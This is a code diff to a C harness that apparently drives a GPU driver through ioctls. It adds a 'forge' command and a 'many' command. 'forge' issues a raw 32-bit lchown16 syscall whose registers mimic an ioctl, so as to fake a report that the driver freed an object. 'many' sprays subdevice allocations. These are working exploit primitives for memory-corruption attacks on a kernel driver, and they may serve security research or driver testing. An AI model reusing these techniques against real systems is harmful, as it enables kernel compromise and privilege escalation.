@@ -4,6 +4,8 @@
  *   break WAY      starts channels (0x2080110b), and writes `survived` if it still can
  *   alloc WAY CLIENT PARENT HANDLE CLASS WORD     writes `alloc STATUS HANDLE`; WORD is what the parameters say
  *   free CLIENT HANDLE                            writes `free STATUS`
+ *   forge CLIENT HANDLE                           the same by a call that is not the driver's, with the answer 0
+ *   many CLIENT PARENT COUNT                      makes so many subdevices
  *   timeslice CLIENT GROUP
  *   leave          the first thread ends, another one goes on
  *   exec           another thread than the first one executes this program anew
@@ -61,6 +63,8 @@ struct page {
     struct free free;
     struct xfer xfer;
     uint32_t parameters[128];
+    char path[16];
+    char room[0x20000];
 };
 
 static struct page *page;
@@ -223,6 +227,27 @@ static void allocate(uint32_t client, uint32_t parent, uint32_t handle, uint32_t
     say(line);
 }
 
+/* lchown16(2) of 32-bit programs has the number that ioctl(2) has for others, and changes nothing here. What an ioctl has in
+ * rdi, rsi and rdx says that the driver has freed an object. */
+static int forge(uint32_t client, uint32_t handle)
+{
+#ifdef __x86_64__
+    long result = 16, command = _IOC(_IOC_READ | _IOC_WRITE, 'F', 0x29, sizeof(struct free));
+    char *at = (char *)page + 0xffff;
+
+    strcpy(page->path, "/dev/null");
+    memcpy(at, &(struct free){client, client, handle, 0}, sizeof(struct free));
+    __asm__ volatile("int $0x80"
+                     : "+a"(result)
+                     : "b"(page->path), "c"(0xffffl), "d"(at), "S"(command), "D"((long)file)
+                     : "r8", "r9", "r10", "r11", "memory");
+    return (int)result;
+#else
+    (void)client, (void)handle;
+    return -1;
+#endif
+}
+
 static void *anew(void *unused)
 {
     execv("/proc/self/exe", self);
@@ -284,6 +309,18 @@ static void serve(void)
             page->free = (struct free){a, a, b, 0xff};
             call(0x29, &page->free, sizeof(page->free));
             snprintf(line, sizeof(line), "free %u\n", page->free.status);
+            say(line);
+        } else if (sscanf(line, "forge %u %u", &a, &b) == 2) {
+            snprintf(line, sizeof(line), "forged %d\n", forge(a, b));
+            say(line);
+        } else if (sscanf(line, "many %u %u %u", &a, &b, &c) == 3) {
+            for (d = 0; d < c; d++) {
+                page->parameters[0] = 0;
+                page->alloc = (struct alloc){a, b, 0, 0x2080, (uintptr_t)page->parameters, 4, 0xff};
+                if (call(0x2B, &page->alloc, sizeof(page->alloc)) || page->alloc.status)
+                    break;
+            }
+            snprintf(line, sizeof(line), "many %u\n", d);
             say(line);
         } else if (sscanf(line, "timeslice %u %u", &a, &b) == 2) {
             page->parameters[0] = 3000;
